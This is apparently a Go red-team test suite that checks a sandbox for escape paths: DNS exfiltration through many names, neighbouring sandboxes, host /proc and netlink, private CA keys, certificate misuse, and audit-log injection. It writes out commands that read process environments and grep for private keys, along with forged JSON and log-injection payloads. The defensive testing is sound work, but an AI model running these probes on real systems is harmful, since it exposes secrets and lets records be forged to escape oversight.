package redteam

import (
	"bufio"
	"bytes"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/miekg/dns"
)

// hostTechniques go for what the sandbox stands on: the host, the neighbours,
// the authority, the audit. They judge themselves.
var hostTechniques = []technique{
	{name: "dns-many-names", what: "data in many names below an allowed suffix: no more than some a minute get through", own: manyNames},
	{name: "neighbour", what: "a service in another sandbox, by every address that it might have", own: neighbour},
	{name: "host-proc", what: "the host's processes, network and mounts in /proc and /sys", own: hostProc},
	{name: "host-netlink", what: "the host's links and addresses by netlink", own: hostNetlink},
	{name: "ca-key", what: "the key of the authority that the sandbox trusts, anywhere in it", own: authorityKey},
	{name: "ca-leaf", what: "a certificate that the gateway showed, for other names, for signing or to the world", own: leafElsewhere},
	{name: "audit-injection", what: "line breaks, JSON and control bytes in all that the audit quotes", own: auditInjection},
}

// manyNames asks for more names than novelty lets through in a minute.
func manyNames(t *testing.T, a *arena, box, token string) []string {
	const names, most = 180, 110 // 100 are let through; one that is lost is asked again
	s := Step{Op: "tcp", Addr: ourResolver(a), Wait: 5 * time.Second}
	for i := range names {
		b, err := new(dns.Msg).SetQuestion(fmt.Sprintf("%03d%s.wild.test.", i, token), dns.TypeA).Pack()
		if err != nil {
			t.Fatal(err)
		}
		s.Send = append(s.Send, append([]byte{byte(len(b) >> 8), byte(len(b))}, b...))
	}
	begin := time.Now()
	a.doIn(t, box, []Step{s})
	a.demandRecord(t, box, begin, "dns_many_names")
	switch n := a.w.AskedWith(token); {
	case n == 0:
		t.Error("the control: not one of them arrived")
	case n > most:
		return []string{fmt.Sprintf("name server: %d names", n)}
	default:
		t.Logf("%d of %d names arrived", n, names)
	}
	return nil
}

// neighbour listens in one sandbox and knocks from another.
func neighbour(t *testing.T, a *arena, box, token string) []string {
	taken := make(chan []byte, 1)
	go func() {
		defer close(taken)
		taken <- a.doIn(t, a.open, []Step{{Op: "listen", Addr: "0.0.0.0:7000", Wait: time.Minute}})[0].Got
	}()
	near := func(text string) bool {
		return a.doIn(t, a.open, []Step{{Op: "tcp", Addr: "127.0.0.1:7000", Send: [][]byte{[]byte(text)}, Wait: 100 * time.Millisecond}})[0].Connected
	}
	for end := time.Now().Add(20 * time.Second); !near("self") && time.Now().Before(end); {
		time.Sleep(50 * time.Millisecond)
	}
	var steps []Step
	for _, addr := range []string{"169.254.77.2", "169.254.77.1", "169.254.77.6", "127.0.0.1", a.w.Host().String(), a.w.Addr(allowed).String()} {
		steps = append(steps, Step{Op: "tcp", Addr: addr + ":7000", Send: [][]byte{[]byte(token)}, Wait: time.Second})
	}
	a.doIn(t, box, steps)
	near("stop")
	got := <-taken
	if !bytes.Contains(got, []byte("self")) {
		t.Errorf("the control: the neighbour itself didn't reach its service: %q", got)
	}
	places := a.arrived(token)
	if bytes.Contains(got, []byte(token)) {
		places = append(places, "the neighbour")
	}
	return places
}

// shell runs a command in a sandbox.
func (a *arena) shell(t *testing.T, box, command string) []byte {
	t.Helper()
	return a.doIn(t, box, []Step{{Op: "shell", Command: command}})[0].Got
}

func hostProc(t *testing.T, a *arena, box, _ string) (places []string) {
	const look = "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/mountinfo /proc/net/* /proc/cmdline 2>/dev/null; ls /sys/class/net 2>/dev/null"
	outside, err := exec.CommandContext(t.Context(), "/bin/sh", "-c", look).Output()
	if err != nil {
		t.Fatal(err)
	}
	inside := a.shell(t, box, look)
	for _, mark := range []string{a.d.State, a.w.Link()} {
		if !bytes.Contains(outside, []byte(mark)) {
			t.Errorf("the control: %q isn't seen on the host either", mark)
		}
		if bytes.Contains(inside, []byte(mark)) {
			places = append(places, mark)
		}
	}
	return places
}

func hostNetlink(t *testing.T, a *arena, box, _ string) (places []string) {
	outside, err := net.Interfaces()
	if err != nil {
		t.Fatal(err)
	}
	inside := string(a.doIn(t, box, []Step{{Op: "links"}})[0].Got)
	if !strings.Contains(inside, "eth0 [169.254.77.2/30]") {
		t.Errorf("the control: the sandbox doesn't see its own link: %s", inside)
	}
	for _, i := range outside {
		if i.Name != "lo" && i.Name != "eth0" && strings.Contains(inside, i.Name) {
			places = append(places, i.Name)
		}
	}
	if strings.Contains(inside, a.w.Host().String()) {
		places = append(places, a.w.Host().String())
	}
	return places
}

func authorityKey(t *testing.T, a *arena, box, _ string) (places []string) {
	const look = "printf -- '-----BEGIN PRIVATE %s-----' KEY >/root/planted.key; grep -rlE 'BEGIN [A-Z ]*PRIVATE KEY' /run /etc /root /home /tmp /var /opt /srv /usr/local /usr/share 2>/dev/null"
	for file := range strings.Lines(string(a.shell(t, box, look))) {
		places = append(places, strings.TrimSpace(file))
	}
	if len(places) == 0 {
		t.Error("the control: the key that was planted isn't found")
		return nil
	}
	block, _ := pem.Decode(a.shell(t, box, "cat /run/cloche/ca/ca.pem"))
	if block == nil || block.Type != "CERTIFICATE" {
		t.Fatalf("the authority's file has no certificate: %+v", block)
	}
	if places[0] == "/root/planted.key" {
		places = places[1:]
	}
	return places
}

// leafElsewhere looks at what the gateway shows: without the key it is of no use
// but in this sandbox, for this name, for a day.
func leafElsewhere(t *testing.T, a *arena, box, token string) (places []string) {
	r := a.doIn(t, box, secure(allowed, "allowed.test", "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")(a, token))[0]
	if len(r.Certs) == 0 {
		t.Fatalf("no certificate was shown: %s", r.Err)
	}
	leaf, err := x509.ParseCertificate(r.Certs[0])
	if err != nil {
		t.Fatal(err)
	}
	world, own := x509.NewCertPool(), x509.NewCertPool()
	if roots, err := os.ReadFile(a.w.RootsFile()); err != nil || !world.AppendCertsFromPEM(roots) {
		t.Fatal("no roots", err)
	}
	own.AppendCertsFromPEM(a.shell(t, box, "cat /run/cloche/ca/ca.pem"))
	if _, err := leaf.Verify(x509.VerifyOptions{DNSName: "allowed.test", Roots: own}); err != nil {
		t.Errorf("the control: it doesn't hold for its own name: %v", err)
	}
	for what, o := range map[string]x509.VerifyOptions{
		"another name": {DNSName: "blocked.test", Roots: own}, "the world": {DNSName: "allowed.test", Roots: world},
		"the day after tomorrow": {DNSName: "allowed.test", Roots: own, CurrentTime: time.Now().Add(48 * time.Hour)},
	} {
		if _, err := leaf.Verify(o); err == nil {
			places = append(places, what)
		}
	}
	if leaf.IsCA || leaf.KeyUsage&x509.KeyUsageCertSign != 0 {
		places = append(places, "other certificates")
	}
	return places
}

// auditInjection sends what breaks lines of logs, and reads the audit's files.
func auditInjection(t *testing.T, a *arena, box, token string) (places []string) {
	forged := `"}` + "\n" + `{"reason":"forged","message":"` + token
	escaped := strings.NewReplacer("\n", "%0a", `"`, "%22", " ", "%20").Replace(forged)
	var steps []Step
	for _, raw := range []string{
		"GET /" + escaped + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"GET /" + forged + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"GET /\x1b[2J\u2028" + token + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		"GET /" + token + "\"},{\"x\":\" HTTP/1.1\r\nHost: front.test\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: " + token + "\"},{\"reason\":\"forged\r\n\r\n",
		"G" + token + "'%|~ / HTTP/1.1\r\nHost: front.test\r\n\r\n",
		strings.Repeat("A", 5000) + token + " / HTTP/1.1\r\nHost: front.test\r\n\r\n",
	} {
		steps = append(steps, plain(allowed, raw)(a, "")...)
	}
	steps = append(steps, hello(allowed, named("aaaaaaaaaaa.test"), renamed("aaaaaaaaaaa.test", "\"}\n{\"x\":\"y.test"))(a, "")...)
	steps = append(steps, question("udp", ourResolver, func(m *dns.Msg, _ string) {
		m.SetQuestion(`\"\}\010\{`+token+`.wild.test.`, dns.TypeA)
	})(a, "")...)
	begin := time.Now()
	a.doIn(t, box, steps)
	for end := time.Now().Add(5 * time.Second); len(a.audit(t, box, begin)) < len(steps) && time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
	}
	if got := len(a.audit(t, box, begin)); got < len(steps) {
		t.Errorf("%d attempts left %d records", len(steps), got)
	}
	files, err := filepath.Glob(filepath.Join(a.d.State, "audit", "*", "*.jsonl"))
	more, _ := filepath.Glob(filepath.Join(a.d.State, "audit", "*.jsonl"))
	if files = append(files, more...); err != nil || len(files) == 0 {
		t.Fatalf("the audit has no files: %v", err)
	}
	quoted := 0
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for lines := bufio.NewScanner(bytes.NewReader(data)); lines.Scan(); {
			line := lines.Text()
			var r struct{ Reason, Message string }
			if err := json.Unmarshal([]byte(line), &r); err != nil || r.Reason == "forged" || strings.ContainsFunc(line, unicode.IsControl) {
				places = append(places, fmt.Sprintf("the audit: %q", line))
			}
			if strings.Contains(line, token) {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Error("the control: the audit quotes none of it")
	}
	return places
}
